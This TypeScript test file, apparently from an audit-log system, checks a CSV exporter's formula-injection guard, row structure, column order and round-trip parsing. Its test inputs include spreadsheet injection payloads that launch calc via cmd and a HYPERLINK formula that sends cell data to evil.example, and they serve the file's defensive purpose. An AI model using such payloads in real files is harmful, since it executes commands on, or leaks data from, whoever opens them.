import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { exportedEvent, manifest, summary } from '../../test/exported-events.ts';
import { parseCsv } from '../../test/parse-csv.ts';
import { csv, csvColumns, guardCell } from './csv.ts';

/** What a program does with a cell: takes one apostrophe away where there is one. */
const unguard = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

describe('a cell of CSV', () => {
  it.each([
    "=cmd|'/C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00A0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "'=1+1",
  ])('is no formula: %j', (hostile) => {
    const guarded = guardCell(hostile);
    expect(guarded).toBe(`'${hostile}`);
    expect(unguard(guarded)).toBe(hostile);
  });

  it.each(['', 'plain', '{"a":"=1"}', 'a=b', '2026-01-02T03:04:05Z', '[]', '7'])(
    'stays as it is when it is harmless: %j',
    (text) => {
      expect(guardCell(text)).toBe(text);
    },
  );

  it('never begins with what starts a formula, whatever the text, and comes back exactly', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(guardCell(text)).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
        expect(unguard(guardCell(text))).toBe(text);
      }),
    );
  });
});

describe('a CSV export', () => {
  const rowsOf = (text: string) => {
    const [names, ...rows] = parseCsv(text);
    return rows.map((row) =>
      Object.fromEntries(row.map((cell, index) => [names![index]!, unguard(cell)])),
    );
  };

  it('has one header, the same number of cells in each record, and CRLF behind each', () => {
    const text = csv.begin(manifest) + csv.event(exportedEvent()) + csv.end(summary, manifest);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(csvColumns);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([csvColumns.length]));
    expect(text.endsWith('\r\n')).toBe(true);
    expect(rowsOf(text).map((row) => row['record'])).toEqual(['export', 'event', 'end']);
  });

  it('keeps its columns in their order', () => {
    expect(csvColumns.join(' ')).toMatchInlineSnapshot(
      `"record leaf_index occurred_at written_at event_id correlation_id parent_event_id actor_type actor_id on_behalf_of action action_version phase outcome targets component sensitive leaf_hash details"`,
    );
  });

  it('says at its beginning what it is of and at its end how much it was', () => {
    const [first, last] = rowsOf(csv.begin(manifest) + csv.end(summary, manifest));
    expect(JSON.parse(first!['details']!)).toMatchObject({
      tenant_id: manifest.tenantId,
      time_zone: 'UTC',
      tree_size: 8,
      checkpoint: manifest.checkpoint,
      query: manifest.filter,
      from: manifest.filter.from,
      actor_id: 'user_1',
    });
    expect(JSON.parse(last!['details']!)).toMatchObject({ rows: 1, sha256: summary.sha256 });
  });

  it('comes back from another parser cell by cell, whatever stands in the event', () => {
    const text = fc.string({ unit: 'grapheme' });
    const hostile = fc.constantFrom('=1+1', '"', '","', '\r\n', '\n=', "'", ',', '@x', '""');
    const value = fc.array(fc.oneof(text, hostile)).map((parts) => parts.join(''));
    const event = fc.record({
      details: fc.dictionary(value, value, { noNullPrototype: true }),
      targets: fc.array(fc.record({ type: fc.constant('thing'), id: value })),
    });
    fc.assert(
      fc.property(event, fc.option(fc.nat()), (members, index) => {
        const exported = exportedEvent(members, index);
        const [row] = rowsOf(csv.begin(manifest) + csv.event(exported)).slice(1);
        expect(JSON.parse(row!['details']!)).toEqual(exported.members.details);
        expect(JSON.parse(row!['targets']!)).toEqual(exported.members.targets);
        expect(row).toMatchObject({
          leaf_index: index === null ? '' : String(index),
          leaf_hash: exported.leafHash,
          event_id: exported.members.event_id,
          occurred_at: exported.members.occurred_at,
        });
      }),
    );
  });
});
